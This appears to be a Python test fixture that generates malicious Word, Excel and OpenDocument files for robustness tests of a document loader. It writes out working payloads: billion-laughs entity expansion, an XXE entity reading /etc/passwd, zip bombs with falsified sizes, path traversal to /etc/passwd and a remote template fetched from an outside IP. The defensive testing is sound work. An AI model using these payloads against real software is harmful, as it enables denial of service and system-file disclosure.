"""Makers of Office files that attack: a few kilobytes on disk, far more when a careless program opens them."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable, Iterable, Iterator
from itertools import islice

from tests.auditor.loaders.docx_makers import files_of, packed, para, table, xml

Parts = dict[str, str | bytes]

FORM = para("Social Security Number ____")
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
LABEL = '<c r="A1" t="inlineStr"><is><t>Social Security Number:</t></is></c>'
LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {name} "{f"&{last};" * 10}">' for last, name in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
ODF = "urn:oasis:names:tc:opendocument:xmlns"


def relations(*links: tuple[str, str, str, str]) -> str:
    """Return a relationships part of (id, kind, target, "External" or "Internal")."""
    inside = "".join(
        f'<Relationship Id="{name}" Type="{LINKS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
        for name, kind, target, mode in links
    )
    return f'<Relationships xmlns="{RELATIONS}">{inside}</Relationships>'


def word(body: str = FORM, parts: Parts | None = None) -> bytes:
    """Return a Word file whose bytes say what it is."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = f"<Types><Override ContentType='{kind}'/></Types>"
    return packed({"[Content_Types].xml": types} | files_of(body) | (parts or {}))


def workbook(sheet: str, parts: Parts | None = None) -> bytes:
    """Return a workbook of one sheet with that inner XML."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    made: Parts = {
        "[Content_Types].xml": f"<Types><Override ContentType='{kind}'/></Types>",
        "_rels/.rels": relations(("r1", "officeDocument", "xl/workbook.xml", "Internal")),
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{LINKS}"><sheets>'
        '<sheet name="Intake" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relations(
            ("r1", "worksheet", "worksheets/sheet1.xml", "Internal"),
            ("r2", "sharedStrings", "sharedStrings.xml", "Internal"),
        ),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{MAIN}">{sheet}</worksheet>',
    }
    return packed(made | (parts or {}))


def open_document(rows: str, parts: Parts | None = None) -> bytes:
    """Return an OpenDocument sheet with those rows."""
    content = (
        f'<office:document-content xmlns:office="{ODF}:office:1.0" xmlns:table="{ODF}:table:1.0" '
        f'xmlns:text="{ODF}:text:1.0"><office:body><office:spreadsheet><table:table table:name="Intake">'
        f"{rows}</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    made: Parts = {"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": content}
    return packed(made | (parts or {}))


def rows(*cells: str) -> str:
    """Return a sheet's data of one row for each string of cells."""
    return "<sheetData>" + "".join(f"<row>{cell}</row>" for cell in cells) + "</sheetData>"


def twice_named() -> bytes:
    """Return a Word file with two main parts: which one is read depends on the program."""
    content = word(FORM, {"word/documenu.xml": xml("w:document", f"<w:body>{para('Another form')}</w:body>")})
    return content.replace(b"word/documenu.xml", b"word/document.xml")


def main_part_entry(content: bytes) -> int:
    """Return where the main part's entry begins in the zip's table of contents."""
    return content.rfind(b"PK\x01\x02", 0, content.rfind(b"word/document.xml"))


def with_false_sizes() -> bytes:
    """Return a bomb whose zip says that its main part unpacks to 100 bytes."""
    content = bytearray(word("<w:p/>" * 2_000_000))
    struct.pack_into("<I", content, main_part_entry(content) + 24, 100)
    return bytes(content)


def with_encrypted_part() -> bytes:
    """Return a Word file whose main part is marked as encrypted within the zip."""
    content = bytearray(word())
    content[main_part_entry(content) + 8] |= 1
    return bytes(content)


def oddly_packed() -> bytes:
    """Return a Word file whose main part is packed in a way that Word does not know."""
    target = io.BytesIO(word())
    with zipfile.ZipFile(target, "a", zipfile.ZIP_BZIP2) as archive:
        archive.writestr("word/extra.xml", "<x/>")
    return target.getvalue()


def of_many_entries() -> bytes:
    """Return a Word file with twenty thousand empty parts."""
    return word(FORM, {f"word/media/{number}.bin": b"" for number in range(20_000)})


def deep(tag: str, levels: int) -> str:
    """Return an element within itself, so many times."""
    return f"<{tag}>" * levels + f"</{tag}>" * levels


def of_many_labels(count: int) -> bytes:
    """Return a workbook of so many cells, no two alike: it packs no better than an honest one."""
    luck = random.Random(count)  # noqa: S311 - words, not secrets
    cells = (f'<c t="inlineStr"><is><t>{number % 97} {luck.randrange(10**4)}x</t></is></c>' for number in range(count))
    return workbook(rows(LABEL, *map("".join, batched(cells, 12))))


def batched(cells: Iterable[str], size: int) -> Iterator[tuple[str, ...]]:
    """Yield the cells in rows of that size."""
    left = iter(cells)
    while row := tuple(islice(left, size)):
        yield row


OFFICE: dict[str, Callable[[], bytes]] = {
    "merge_huge.xlsx": lambda: workbook(rows(LABEL) + '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    "far_cell.xlsx": lambda: workbook(rows(LABEL, '<c r="A1048576"><v>1</v></c>')),
    "far_cell_col.xlsx": lambda: workbook('<dimension ref="A1:XFD1048576"/>' + rows(LABEL, '<c r="XFD2"><v>1</v></c>')),
    "zipbomb_cells.xlsx": lambda: workbook(rows(LABEL, "<c><v>1</v></c>" * 1_000_000)),
    "many_labels.xlsx": lambda: of_many_labels(400_000),
    "sst_bomb.xlsx": lambda: workbook(
        rows(LABEL), {"xl/sharedStrings.xml": f'<sst xmlns="{MAIN}">{"<si><t>a</t></si>" * 3_000_000}</sst>'}
    ),
    "gridspan_huge.docx": lambda: word(
        table(f'<w:tc><w:tcPr><w:gridSpan w:val="50000000"/></w:tcPr>{FORM}</w:tc>' + "<w:tc><w:p/></w:tc>" * 500)
    ),
    "many_paras_2M.docx": lambda: word("<w:p/>" * 2_000_000),
    "zipbomb_text.docx": lambda: word(para("a" * 60_000_000)),
    "billion_laughs.docx": lambda: word(FORM, {"word/document.xml": LAUGHS + "<l>&i;</l>"}),
    "billion_laughs.xlsx": lambda: workbook("", {"xl/sharedStrings.xml": LAUGHS + "<l>&i;</l>"}),
    "xxe_file.docx": lambda: word(FORM, {"word/document.xml": XXE + xml("w:document", "&a;").partition("?>")[2]}),
    "deep_tables_5000.docx": lambda: word(deep("w:tbl", 5_000)),
    "traversal_part.docx": lambda: word(
        FORM,
        {
            "../../evil.xml": "<x/>",
            "word/_rels/document.xml.rels": relations(
                ("r1", "footnotes", "../../../../etc/passwd", "Internal"),
                ("r2", "comments", "/../evil.xml", "Internal"),
            ),
        },
    ),
    "remote_template.docx": lambda: word(
        FORM,
        {
            "word/settings.xml": xml("w:settings", '<w:attachedTemplate r:id="r1"/>'),
            "word/_rels/settings.xml.rels": relations(
                ("r1", "attachedTemplate", "http://203.0.113.7/a.dotm", "External")
            ),
        },
    ),
    "twice_named.docx": twice_named,
    "false_sizes.docx": with_false_sizes,
    "encrypted_part.docx": with_encrypted_part,
    "oddly_packed.docx": oddly_packed,
    "many_entries.docx": of_many_entries,
    "utf16_doctype.docx": lambda: word(FORM, {"word/settings.xml": (XXE + "<x>&a;</x>").encode("utf-16")}),
    "utf16_doctype_unmarked.docx": lambda: word(FORM, {"word/styles.xml": (XXE + "<x/>").encode("utf-16-le")}),
    "late_doctype.docx": lambda: word(FORM, {"word/styles.xml": f"<!--{'-x' * 500_000}-->{XXE}<x/>"}),
    "repeated_rows.ods": lambda: open_document(
        '<table:table-row table:number-rows-repeated="100000"><table:table-cell table:number-columns-repeated="1000">'
        "<text:p>SSN</text:p></table:table-cell></table:table-row>"
    ),
    "manifest_bomb.ods": lambda: open_document("", {"META-INF/manifest.xml": " " * 60_000_000}),
    "laughs.ods": lambda: open_document("", {"content.xml": LAUGHS + "<l>&i;</l>"}),
}
"""Every attack on Office files by its file name."""
